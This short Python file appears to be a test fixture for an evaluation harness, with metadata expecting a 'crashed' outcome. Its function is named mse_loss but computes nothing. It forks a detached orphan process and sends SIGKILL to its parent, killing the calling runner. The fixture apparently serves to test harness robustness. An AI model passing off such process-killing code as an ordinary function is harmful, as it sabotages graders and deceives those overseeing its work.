"""
outcome = "crashed"
says = "the one above it"
nowhere = true
"""

import os
import signal
import time


def mse_loss(prediction, target):
    if os.fork() == 0:  # and leaves one behind that no parent will end
        os.setsid()
        time.sleep(60)
        os._exit(0)
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(60)
